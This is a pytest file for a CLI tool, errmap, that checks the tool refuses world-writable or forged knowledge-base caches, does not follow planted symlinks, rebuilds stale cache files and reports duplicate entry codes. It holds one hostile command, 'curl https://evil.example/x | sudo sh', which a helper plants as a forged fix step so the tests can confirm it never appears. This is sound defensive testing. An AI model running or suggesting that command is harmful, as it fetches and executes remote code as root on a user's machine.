"""Nobody acts through errmap: a shared or forged KB cache, a planted link, a duplicate code across KB folders,
workflow commands and hidden characters from a file name or a log line, names that are not UTF-8, and two runs
writing one --report. Each case runs the real CLI on real files."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import ROOT, errmap

USER_KB = ROOT / "tests" / "data" / "userkb"
ENTRY = "9001-test-marker.yaml"
MARKER = "errmap-test-marker 7\n"
EVIL = "curl https://evil.example/x | sudo sh"
REFUSED = "may be written by another user"


@pytest.fixture(scope="module")
def warm(tmp_path_factory) -> Path:
    """A cache folder warmed with the official KB and the test KB (copied by each test: no test builds twice)."""
    cache = tmp_path_factory.mktemp("warm") / "cache"
    log = cache.parent / "m.log"
    log.write_text(MARKER)
    assert errmap("scan", "--kb", str(USER_KB), str(log), env={"ERRMAP_CACHE_DIR": str(cache)}).returncode == 1
    return cache


def own_cache(warm: Path, tmp_path: Path) -> Path:
    cache = tmp_path / "cache"
    shutil.copytree(warm, cache)
    os.chmod(cache, 0o700)
    return cache


def marker_scan(tmp_path: Path, cache: Path, *kb: Path, env: dict | None = None) -> subprocess.CompletedProcess:
    log = tmp_path / "m.log"
    log.write_text(MARKER)
    return errmap("scan", *(a for k in kb for a in ("--kb", str(k))), str(log),
                  env={"ERRMAP_CACHE_DIR": str(cache), **(env or {})})


def kb_file(cache: Path) -> Path:
    [path] = [p for p in cache.glob("kb-*.json") if "9001" in p.read_text(errors="replace")]
    return path


def forge(path: Path) -> None:
    """Add a fix step of someone else's to 9001 in a cached KB, keeping whatever line comes before the JSON."""
    data = path.read_bytes()
    head, body = (data.split(b"\n", 1) if not data.startswith(b"{") else (None, data))
    doc = json.loads(body)
    [entry] = [e for e in doc["entries"] if e["errno"] == 9001]
    entry["fix"][0]["text"] = EVIL  # the first step: the one a report shows
    path.write_bytes((head + b"\n" if head is not None else b"") + json.dumps(doc).encode())


def test_a_planted_link_is_never_followed_by_the_cache_writer(tmp_path, warm):
    cache = own_cache(warm, tmp_path)
    victim = tmp_path / "victim"
    victim.write_text("the user's own file\n")
    name = kb_file(cache).stem
    for p in cache.glob("kb-*.json"):
        p.unlink()
    log = tmp_path / "m.log"
    log.write_text(MARKER)
    # the pid is known before errmap runs (exec keeps it): a name a writer derives from it is a link to the victim
    proc = subprocess.Popen(["sh", "-c", f'sleep 0.3; exec "{sys.executable}" -m errmap scan --kb "{USER_KB}" "{log}"'],
                            cwd=ROOT, env={**os.environ, "ERRMAP_CACHE_DIR": str(cache)},
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    (cache / f"{name}.{proc.pid}.tmp").symlink_to(victim)
    out, err = proc.communicate(timeout=120)
    assert proc.returncode == 1, err
    assert victim.read_text() == "the user's own file\n"
    assert kb_file(cache).is_file() and not kb_file(cache).is_symlink()


def test_a_shared_cache_folder_is_refused_once_and_its_files_not_read(tmp_path, warm):
    cache = own_cache(warm, tmp_path)
    forge(kb_file(cache))
    os.chmod(cache, 0o777)  # anyone may plant files there
    proc = marker_scan(tmp_path, cache, USER_KB)
    assert proc.returncode == 1
    out, err = proc.stdout.decode(), proc.stderr.decode()
    assert EVIL not in out and "Nothing to fix" in out
    assert err.count(REFUSED) == 1 and len(err.splitlines()) == 1, err
    assert str(cache) in err and "0777" in err
    assert sorted(p.name for p in cache.iterdir()) == sorted(p.name for p in warm.iterdir())  # nothing written there


@pytest.mark.parametrize("how", ["mode", "owner"])
def test_a_cache_file_others_may_write_is_not_read(tmp_path, warm, how):
    cache = own_cache(warm, tmp_path)
    path = kb_file(cache)
    forge(path)
    if how == "mode":
        os.chmod(path, 0o666)
    elif os.geteuid() == 0:
        os.chown(path, 65534, 65534)  # nobody's
    else:
        pytest.skip("only root can give a file to another user")
    proc = marker_scan(tmp_path, cache, USER_KB)
    out, err = proc.stdout.decode(), proc.stderr.decode()
    assert proc.returncode == 1 and EVIL not in out and "Nothing to fix" in out
    assert err.count(REFUSED) == 1 and path.name in err, err
    again = marker_scan(tmp_path, cache, USER_KB)  # the file was replaced by one of the user's
    assert EVIL not in again.stdout.decode() and REFUSED not in again.stderr.decode()


def test_a_kb_edit_keeping_size_and_time_is_seen_and_a_stale_file_is_not_trusted(tmp_path, warm):
    cache = own_cache(warm, tmp_path)
    kb = tmp_path / "kb"
    kb.mkdir()
    shutil.copy2(USER_KB / ENTRY, kb / ENTRY)
    known = set(cache.glob("kb-*.json"))
    assert "Marker number 7 was written by a test." in marker_scan(tmp_path, cache, kb).stdout.decode()
    [first] = set(cache.glob("kb-*.json")) - known
    st = (kb / ENTRY).stat()
    text = (kb / ENTRY).read_text()
    (kb / ENTRY).write_text(text.replace("was written by a test.", "was WRITTEN by a test."))  # the same size
    os.utime(kb / ENTRY, ns=(st.st_atime_ns, st.st_mtime_ns))  # and the same time, as `cp -p` or `rsync -t` leave it
    assert (kb / ENTRY).stat().st_size == st.st_size
    assert "Marker number 7 was WRITTEN by a test." in marker_scan(tmp_path, cache, kb).stdout.decode()
    # a cache file built from other content, under the name of this content's, is rebuilt, not believed
    [second] = set(cache.glob("kb-*.json")) - known - {first}
    shutil.copy(first, second)
    assert "Marker number 7 was WRITTEN by a test." in marker_scan(tmp_path, cache, kb).stdout.decode()


def test_a_code_in_two_kb_folders_is_the_first_ones_and_said(tmp_path, warm):
    cache = own_cache(warm, tmp_path)
    first, second = tmp_path / "a", tmp_path / "b"
    for folder, cause in ((first, "First folder's cause {n}."), (second, "Second folder's cause {n}.")):
        folder.mkdir()
        (folder / ENTRY).write_text((USER_KB / ENTRY).read_text().replace("Marker number {n} was written by a test.", cause))
    for kb, env in (((first, second), {}), ((first,), {"ERRMAP_KB_PATH": str(second)})):
        proc = marker_scan(tmp_path, cache, *kb, env=env)
        out, err = proc.stdout.decode(), proc.stderr.decode()
        assert "First folder's cause 7." in out and "Second folder's" not in out
        [line] = [x for x in err.splitlines() if "9001" in x]
        assert str(first / ENTRY) in line and str(second / ENTRY) in line and "first folder given wins" in line
